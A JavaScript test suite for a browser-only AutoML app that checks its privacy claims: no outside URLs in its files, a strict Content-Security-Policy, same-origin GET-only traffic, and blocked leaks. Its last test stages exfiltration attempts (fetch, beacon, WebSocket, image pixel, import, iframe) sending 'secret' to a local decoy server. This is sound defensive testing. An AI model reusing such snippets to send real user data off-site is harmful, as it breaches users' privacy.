// Privacy: the data provably stays in the browser.
//
// 1. www/ holds only this project's files, none refers to another origin, and the wasm
//    engine imports no function that could make a request.
// 2. The page's Content-Security-Policy is strict, and the meta tag and the server agree.
// 3. A whole session (load, every sample, upload, drop, searches, predictions on a file and
//    their CSV, what-if, model download and upload, the report, Stop, a bad file, a crash,
//    offline caching) is recorded request by request: every one is a GET without a body or
//    query string, to this origin, for a static file that exists in the served page. The
//    session is served from the test build (build/test-www/: www/ plus the test hooks, for
//    the crash), the rest from www/.
// 4. A script that tries to send data elsewhere (fetch, XHR, beacon, WebSocket, EventSource,
//    image, import, iframe, from the page and from the worker) is blocked by the policy with a
//    `securitypolicyviolation` event, and a decoy server on another origin receives nothing.
import { test } from "node:test";
import assert from "node:assert/strict";
import { createServer } from "node:http";
import { readdir, readFile, stat } from "node:fs/promises";
import path from "node:path";
import { CONTENT_SECURITY_POLICY } from "../../scripts/serve.mjs";
import { $, TEST_WWW, WWW, pageHelpers, useBrowser } from "./harness.mjs";

/** Every file of the page. A new file in www/ must be added here, deliberately. */
const PAGE_FILES = [
  "app.js",
  "automl-calls.js",
  "automl.js",
  "charts.css",
  "charts.js",
  "diagnostics.js",
  "explain.js",
  "families.js",
  "favicon.svg",
  "forecast.js",
  "forecast-model.js",
  "glossary.js",
  "i18n.js",
  "i18n/en.json",
  "i18n/ko.json",
  "icons/icon-192.png",
  "icons/icon-512.png",
  "icons/icon.svg",
  "icons/maskable-512.png",
  "icons/maskable.svg",
  "index.html",
  "main.js",
  "manifest.webmanifest",
  "network.js",
  "pkg/automl.d.ts",
  "pkg/automl.js",
  "pkg/automl_bg.wasm",
  "pkg/automl_bg.wasm.d.ts",
  "pkg/build-flags.js",
  "pkg/build-id.js",
  "pkg/workbook.d.ts",
  "pkg/workbook.js",
  "pkg/workbook_bg.wasm",
  "pkg/workbook_bg.wasm.d.ts",
  "protocol-types.js",
  "protocol.js",
  "report.js",
  "results.js",
  "rows.js",
  "samples/SOURCES.md",
  "samples/airline_passengers.csv",
  "samples/auto_mpg.csv",
  "samples/co2.csv",
  "samples/concrete_strength.csv",
  "samples/credit_default.csv",
  "samples/diabetes.csv",
  "samples/iris.csv",
  "samples/penguins.csv",
  "samples/samples.json",
  "samples/titanic.csv",
  "samples/wine_sales.csv",
  "style.css",
  "sw.js",
  "trusted-types.js",
  "vendor/d3.LICENSE",
  "vendor/d3.min.js",
  "view.js",
  "worker.js",
];

/** URLs that may appear in files without being fetched: the SVG namespace, and links to
 * documentation in comments of the generated glue (pkg/automl.js). The sources of the sample
 * data sets are cited in samples/SOURCES.md, a text file the page never loads. */
const ALLOWED_URL = /^(http:\/\/www\.w3\.org\/2000\/svg|https:\/\/developer\.mozilla\.org\/[\w/#.-]*)$/;
const CITATION_FILES = new Set(["samples/SOURCES.md"]);
/** The charting library (D3, copied from npm by scripts/build-wasm.sh) names the XML
 * namespaces it creates elements in (identifiers, never fetched) and its home page in its
 * licence comment. */
const LIBRARY_URLS = {
  "vendor/d3.min.js": /^(http:\/\/www\.w3\.org\/(1999\/xhtml|1999\/xlink|2000\/svg|2000\/xmlns\/|XML\/1998\/namespace)|https:\/\/d3js\.org)$/,
};

async function listFiles(dir, prefix = "") {
  const out = [];
  for (const entry of await readdir(dir, { withFileTypes: true })) {
    const rel = prefix ? `${prefix}/${entry.name}` : entry.name;
    if (entry.isDirectory()) out.push(...(await listFiles(path.join(dir, entry.name), rel)));
    else out.push(rel);
  }
  return out.sort();
}

test("www/ holds only the page's own files, and none refers to another origin", async () => {
  const files = await listFiles(WWW);
  assert.deepEqual(files, [...PAGE_FILES].sort(), "the files in www/ are exactly the page's own");
  for (const file of files) {
    if (/\.(png|wasm)$/.test(file) || CITATION_FILES.has(file)) continue;
    const text = await readFile(path.join(WWW, file), "utf8");
    for (const url of text.match(/\b(?:https?|wss?|ftp):\/\/[^\s"'`)<>]*/gi) || []) {
      assert.match(url, LIBRARY_URLS[file] || ALLOWED_URL, `${file} refers to another origin: ${url}`);
    }
    assert.doesNotMatch(text, /(^|[^\w.])\/\/[a-z0-9-]+\.[a-z]{2,}\//i, `${file}: no protocol-relative URL`);
    assert.doesNotMatch(text, /@import|sourceMappingURL/, `${file}: no imports of other style sheets or source maps`);
  }
});

test("the wasm engine imports no function that could make a request", async () => {
  const module = new WebAssembly.Module(await readFile(path.join(WWW, "pkg", "automl_bg.wasm")));
  const imports = WebAssembly.Module.imports(module);
  assert.ok(imports.length > 0);
  for (const entry of imports) {
    assert.equal(entry.module, "./automl_bg.js", `import from ${entry.module}`);
    assert.doesNotMatch(
      entry.name,
      /fetch|xhr|xmlhttp|request|websocket|beacon|eventsource|import|worker|open|location|href|src|post/i,
      `the engine imports ${entry.name}`,
    );
  }
  // The glue's only network call is the one that loads the engine itself.
  const glue = await readFile(path.join(WWW, "pkg", "automl.js"), "utf8");
  assert.equal((glue.match(/\bfetch\(/g) || []).length, 1, "one fetch in the glue: the wasm file");
  assert.match(glue, /new URL\('automl_bg\.wasm', import\.meta\.url\)/);
});

test("the Content-Security-Policy is strict, and the page and the server agree on it", async () => {
  const html = await readFile(path.join(WWW, "index.html"), "utf8");
  const meta = html.match(/<meta http-equiv="Content-Security-Policy" content="([^"]+)">/);
  assert.ok(meta, "index.html has a CSP meta tag");
  assert.equal(meta[1], CONTENT_SECURITY_POLICY, "the meta tag is the server's policy");
  const directives = Object.fromEntries(
    CONTENT_SECURITY_POLICY.split(";").map((d) => d.trim().split(/\s+/)).map(([name, ...values]) => [name, values]),
  );
  assert.deepEqual(directives["default-src"], ["'none'"], "nothing is allowed unless listed");
  assert.deepEqual(directives["script-src"], ["'self'", "'wasm-unsafe-eval'"], "own scripts and wasm only");
  for (const name of ["connect-src", "worker-src", "style-src", "img-src", "manifest-src"]) {
    assert.deepEqual(directives[name], ["'self'"], `${name} is this origin only`);
  }
  assert.deepEqual(directives["form-action"], ["'none'"]);
  assert.deepEqual(directives["base-uri"], ["'none'"]);
  assert.deepEqual(directives["require-trusted-types-for"], ["'script'"]);
  assert.deepEqual(directives["trusted-types"], ["automl"], "one policy: www/trusted-types.js");
  assert.doesNotMatch(CONTENT_SECURITY_POLICY, /'unsafe-inline'|'unsafe-eval'|\*|https?:|data:|blob:/, "no loophole");
  // No inline script or style in the page (the policy would block them; there are none to block).
  assert.doesNotMatch(html, /<script(?![^>]*\bsrc=)[^>]*>/, "no inline <script>");
  assert.doesNotMatch(html, /<style|\sstyle=|\son[a-z]+=/i, "no inline style or event handler attribute");
});

// The test build: the session below crashes the engine on purpose (bridge.panic). Its
// profile starts with the first page: the tests above open none.
const session = useBrowser({ testBuild: true, page: "none" });

/** The served page's file (in build/test-www/) a same-origin URL names, or null when it names none. */
async function staticFile(url) {
  let pathname;
  try {
    pathname = decodeURIComponent(new URL(url).pathname);
  } catch {
    return null;
  }
  const rel = pathname === "/" ? "index.html" : pathname.slice(1);
  if (rel.split("/").includes("..")) return null;
  try {
    return (await stat(path.join(TEST_WWW, rel))).isFile() ? rel : null;
  } catch {
    return null;
  }
}

test("a whole session only ever GETs this origin's static files, with no data in any request", async () => {
  const page = await session.newPage();
  const h = pageHelpers(page, session);
  // Messages the crash below prints, and nothing else, are expected.
  session.tolerateConsole = (text) => text.includes("panicked");
  const secret = `SECRET-${Date.now()}`;

  await h.openApp();
  await h.waitForOffline();
  for (const id of ["iris", "titanic", "penguins", "diabetes"]) await h.loadSample(id);
  await h.runAndWaitForBest(2);

  // An upload with a recognisable value, and a file dropped on the page.
  const rows = ["x,code,label", ...Array.from({ length: 40 }, (_, i) => `${i % 7},${secret}${i % 3},${i % 2 ? "yes" : "no"}`)];
  await h.upload("private.csv", Buffer.from(`${rows.join("\n")}\n`));
  await h.waitForText("status", /^Loaded private\.csv$/);
  await page.evaluate(({ selector, csv }) => {
    const transfer = new DataTransfer();
    transfer.items.add(new File([csv], "dropped.csv", { type: "text/csv" }));
    const zone = document.querySelector(selector);
    for (const type of ["dragenter", "dragover", "drop"]) {
      zone.dispatchEvent(new DragEvent(type, { bubbles: true, cancelable: true, dataTransfer: transfer }));
    }
  }, { selector: $("drop-zone"), csv: rows.join("\n") });
  await h.waitForText("status", /^Loaded dropped\.csv$/);
  await h.runAndWaitForBest(2);

  // The results of that run: predictions on the private file and their CSV, the model file
  // downloaded and loaded back, what-if edits, and the report.
  const download = async (testId) => {
    const [file] = await Promise.all([page.waitForEvent("download"), page.locator($(testId)).click()]);
    return file.path();
  };
  await page.locator($("model-info")).waitFor({ state: "visible", timeout: 30_000 });
  await page.locator($("predict-input")).setInputFiles({ name: "private-new.csv", mimeType: "text/csv", buffer: Buffer.from(`${rows.join("\n")}\n`) });
  await h.waitForText("predict-status", /rows of private-new\.csv predicted/, 30_000);
  await download("download-predictions");
  await page.locator('[data-testid="whatif-form"] input[data-column="code"]').fill(`${secret}-edited`);
  await page.locator(`${$("whatif-contributions")} svg.chart`).waitFor({ timeout: 15_000 });
  const modelPath = await download("download-model");
  await page.locator($("model-input")).setInputFiles(modelPath);
  await h.waitForText("model-source", /the file /, 15_000);
  await download("download-report");

  // A long search, stopped; a bad file; a crash and its recovery; the error box dismissed.
  await page.locator($("budget-input")).fill("30");
  await page.locator($("start")).click();
  await page.locator(`${$("leaderboard-body")} tr`).first().waitFor({ state: "attached", timeout: 25_000 });
  await page.locator($("stop")).click();
  await h.waitForText("status", /^Stopped early/, 60_000);
  await h.upload("bad.csv", Buffer.from([0x50, 0x4b, 0x03, 0x04, 1, 2, 3]));
  await page.locator($("error")).waitFor({ state: "visible" });
  await page.locator($("error-dismiss")).click();
  await page.evaluate(() => window.__automl.bridge.panic().catch(() => {}));
  await h.waitForText("status", /^Engine ready/, 30_000);
  await h.runAndWaitForBest(1);
  await page.reload();
  await h.waitForText("status", /^Engine ready/, 30_000);
  await page.close();

  const requests = session.requests.filter((r) => !/^(data|blob):/.test(r.url));
  assert.ok(requests.length >= 10, `the session made its requests (${requests.length})`);
  const bad = [];
  for (const r of requests) {
    const url = new URL(r.url);
    const where = `${r.method} ${r.url}${r.serviceWorker ? " (service worker)" : ""}`;
    if (url.origin !== session.origin) bad.push(`another origin: ${where}`);
    if (r.method !== "GET") bad.push(`not a GET: ${where}`);
    if (r.postData && r.postData.length > 0) bad.push(`a body of ${r.postData.length} bytes: ${where}`);
    if (url.search !== "") bad.push(`a query string: ${where}`);
    if (r.url.includes(secret)) bad.push(`the data itself: ${where}`);
    if (!(await staticFile(r.url))) bad.push(`not a static file of www/: ${where}`);
  }
  assert.deepEqual(bad, [], "every request is a plain GET of one of the page's own files");
  session.assertNoProblems();
});

/** A server on another origin (another port) that counts every request it receives. */
async function decoyServer() {
  const hits = [];
  const server = createServer((req, res) => {
    hits.push(`${req.method} ${req.url}`);
    res.writeHead(200, { "Access-Control-Allow-Origin": "*" });
    res.end("ok");
  });
  server.on("upgrade", (req, socket) => {
    hits.push(`UPGRADE ${req.url}`);
    socket.destroy();
  });
  await new Promise((resolve) => server.listen(0, "127.0.0.1", resolve));
  return {
    url: `http://127.0.0.1:${server.address().port}`,
    hits,
    close: () => new Promise((resolve) => { server.closeAllConnections?.(); server.close(resolve); }),
  };
}

test("any attempt to send data elsewhere is blocked by the policy, and nothing leaves", async () => {
  const decoy = await decoyServer();
  const decoyOrigin = new URL(decoy.url).origin;
  // Blocked attempts may show up as (failed) requests in the browser's record and as console
  // errors; both are what this test provokes. Nothing may reach the decoy server.
  session.tolerateOffOrigin = (url) => url.origin === decoyOrigin || url.hostname === "example.invalid";
  session.tolerateConsole = (text) => /Content Security Policy|Refused to|ERR_BLOCKED|Failed to (fetch|load)/i.test(text);
  const page = await session.newPage();
  const h = pageHelpers(page, session);
  await h.openApp();

  const report = await page.evaluate(async (target) => {
    const violations = [];
    document.addEventListener("securitypolicyviolation", (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
    const outcomes = {};
    const attempt = async (name, fn) => {
      try {
        await fn();
        outcomes[name] = "allowed";
      } catch (err) {
        outcomes[name] = `blocked: ${err.name}`;
      }
    };
    await attempt("fetch example.invalid", () => fetch("http://example.invalid/"));
    await attempt("fetch", () => fetch(`${target}/fetch?data=secret`));
    await attempt("fetch POST", () => fetch(`${target}/post`, { method: "POST", body: "secret", mode: "no-cors" }));
    await attempt("xhr", () => new Promise((resolve, reject) => {
      const xhr = new XMLHttpRequest();
      xhr.open("GET", `${target}/xhr`);
      xhr.onload = resolve;
      xhr.onerror = () => reject(new Error("xhr failed"));
      xhr.send();
    }));
    await attempt("beacon", () => {
      if (!navigator.sendBeacon(`${target}/beacon`, "secret")) throw new Error("refused");
    });
    await attempt("websocket", () => new Promise((resolve, reject) => {
      const ws = new WebSocket(`${target.replace("http", "ws")}/ws`);
      ws.onopen = resolve;
      ws.onerror = () => reject(new Error("websocket failed"));
    }));
    await attempt("eventsource", () => new Promise((resolve, reject) => {
      const source = new EventSource(`${target}/events`);
      source.onopen = resolve;
      source.onerror = () => { source.close(); reject(new Error("eventsource failed")); };
    }));
    await attempt("image", () => new Promise((resolve, reject) => {
      const img = new Image();
      img.onload = resolve;
      img.onerror = () => reject(new Error("image failed"));
      img.src = `${target}/pixel.png?data=secret`;
    }));
    await attempt("import", () => import(`${target}/module.js`));
    await attempt("iframe", () => new Promise((resolve) => {
      const frame = document.createElement("iframe");
      frame.src = `${target}/frame`;
      document.body.append(frame);
      setTimeout(resolve, 300);
    }));
    // Give the event loop a moment: violation events are queued as tasks.
    await new Promise((resolve) => setTimeout(resolve, 300));
    return { violations, outcomes };
  }, decoy.url);

  // The search worker is idle now, so it can run a script too: its own policy blocks it.
  const worker = page.workers().find((w) => w.url().endsWith("/worker.js"));
  assert.ok(worker, "the search worker is running");
  const workerOutcome = await worker.evaluate(async (target) => {
    const violations = [];
    self.addEventListener("securitypolicyviolation", (e) => violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
    let outcome;
    try {
      await fetch(`${target}/from-worker?data=secret`);
      outcome = "allowed";
    } catch (err) {
      outcome = `blocked: ${err.name}`;
    }
    await new Promise((resolve) => setTimeout(resolve, 200));
    return { outcome, violations };
  }, decoy.url);
  await page.close();
  await decoy.close();

  for (const [name, outcome] of Object.entries(report.outcomes)) {
    // A blocked frame shows an error page, and sendBeacon only queues its request: neither
    // throws. Their violations are checked below, and the decoy server's record.
    if (name === "iframe" || name === "beacon") continue;
    assert.match(outcome, /^blocked/, `${name} was blocked`);
  }
  assert.match(workerOutcome.outcome, /^blocked/, "fetch from the worker was blocked");
  assert.ok(workerOutcome.violations.some((v) => v.startsWith("connect-src")), `the worker reports it: ${workerOutcome.violations}`);
  for (const directive of ["connect-src", "img-src", "script-src-elem", "frame-src"]) {
    assert.ok(
      report.violations.some((v) => v.startsWith(directive)),
      `a ${directive} violation was reported: ${JSON.stringify(report.violations)}`,
    );
  }
  for (const [directive, where] of [
    ["connect-src", "http://example.invalid/"],
    ["connect-src", "/fetch?data=secret"],
    ["connect-src", "/post"],
    ["connect-src", "/xhr"],
    ["connect-src", "/beacon"],
    ["connect-src", "ws://"],
    ["connect-src", "/events"],
    ["img-src", "/pixel.png"],
    ["script-src-elem", "/module.js"],
    ["frame-src", decoy.url],
  ]) {
    assert.ok(
      report.violations.some((v) => v.startsWith(directive) && v.includes(where)),
      `${directive} reported for ${where}: ${JSON.stringify(report.violations)}`,
    );
  }
  assert.deepEqual(decoy.hits, [], "the other origin received no request at all");
  session.assertNoProblems();
});
